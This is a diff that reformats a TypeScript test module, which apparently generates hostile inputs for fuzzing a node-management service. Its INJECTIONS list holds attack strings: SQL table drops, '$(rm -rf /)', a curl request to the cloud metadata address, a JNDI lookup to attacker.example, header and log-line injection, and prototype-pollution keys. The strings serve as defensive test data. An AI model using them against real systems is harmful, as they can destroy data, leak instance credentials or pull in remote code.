@@ -10,7 +10,7 @@ export { seededRandom as prng } from "../../lib/testbed/local/simulation/seeded-
 /** Strings that look like attacks on a shell, SQL, a path, a template, a log line, an HTTP header or a JS object. */
 export const INJECTIONS: readonly string[] = [
   "'; DROP TABLE ciliumnodes; --",
-  "\" OR \"1\"=\"1",
+  '" OR "1"="1',
   "$(rm -rf /)",
   "`reboot`",
   "; curl http://169.254.169.254/opc/v2/instance/ #",
@@ -22,18 +22,20 @@ export const INJECTIONS: readonly string[] = [
   "${jndi:ldap://attacker.example/a}",
   "%00%0d%0a",
   "line\r\nX-Injected-Header: 1",
-  "\n{\"level\":60,\"msg\":\"forged log line\"}",
+  '\n{"level":60,"msg":"forged log line"}',
   "__proto__",
   "constructor",
   "prototype",
-  "ocid1.instance.oc1..aaaa\",\"compartmentId\":\"ocid1.compartment.oc1..evil",
+  'ocid1.instance.oc1..aaaa","compartmentId":"ocid1.compartment.oc1..evil',
   "worker-1\u0000evil",
   "*",
   "worker-1,worker-2",
   "$where: function() { return true }",
 ];
 
-/** Unicode that trips naive validation: bidi overrides, zero-width, homoglyphs, lone surrogates, BOM, line separators. */
+/**
+ * Unicode that trips naive validation: bidi overrides, zero-width, homoglyphs, lone surrogates, BOM, line separators.
+ */
 export const ODD_UNICODE: readonly string[] = [
   "\u202eworker-1",
   "wor\u200bker-1",
@@ -56,7 +58,25 @@ export const ODD_UNICODE: readonly string[] = [
 ];
 
 /** Values of every JSON type (and of none: JSON has no undefined), for "wrong type" mutations. */
-export const WRONG_TYPES: readonly unknown[] = [null, true, false, 0, -1, 1.5, -0, 2 ** 53 + 2, 1e308, [], [null], {}, { a: { b: {} } }, "", "0", "true", "null"];
+export const WRONG_TYPES: readonly unknown[] = [
+  null,
+  true,
+  false,
+  0,
+  -1,
+  1.5,
+  -0,
+  2 ** 53 + 2,
+  1e308,
+  [],
+  [null],
+  {},
+  { a: { b: {} } },
+  "",
+  "0",
+  "true",
+  "null",
+];
 
 /** Text that is not JSON, or not JSON of the expected shape. */
 export const MALFORMED_JSON: readonly string[] = [
@@ -64,16 +84,16 @@ export const MALFORMED_JSON: readonly string[] = [
   " ",
   "{",
   "[",
-  "{\"a\":}",
+  '{"a":}',
   "[1,]",
   "{'single':'quotes'}",
-  "{\"a\":1}}",
+  '{"a":1}}',
   "NaN",
   "undefined",
   "\u0000",
-  "{\"a\":\"\\ud800\"",
+  '{"a":"\\ud800"',
   "[".repeat(10_000),
-  "{\"a\":1,\"a\":2",
+  '{"a":1,"a":2',
   "/* comment */ {}",
   "\ufeff{}",
   "0x10",
@@ -125,7 +145,8 @@ export class Hostile {
     if (r < 0.7 || depth > 3) return this.pick(WRONG_TYPES);
     if (r < 0.85) return Array.from({ length: this.int(0, 4) }, () => this.value(depth + 1));
     const o: Record<string, unknown> = {};
-    for (let i = this.int(0, 4); i > 0; i--) o[this.chance(0.5) ? this.string() : this.pick(["__proto__", "constructor", "a"])] = this.value(depth + 1);
+    for (let i = this.int(0, 4); i > 0; i--)
+      o[this.chance(0.5) ? this.string() : this.pick(["__proto__", "constructor", "a"])] = this.value(depth + 1);
     return o;
   }
 }
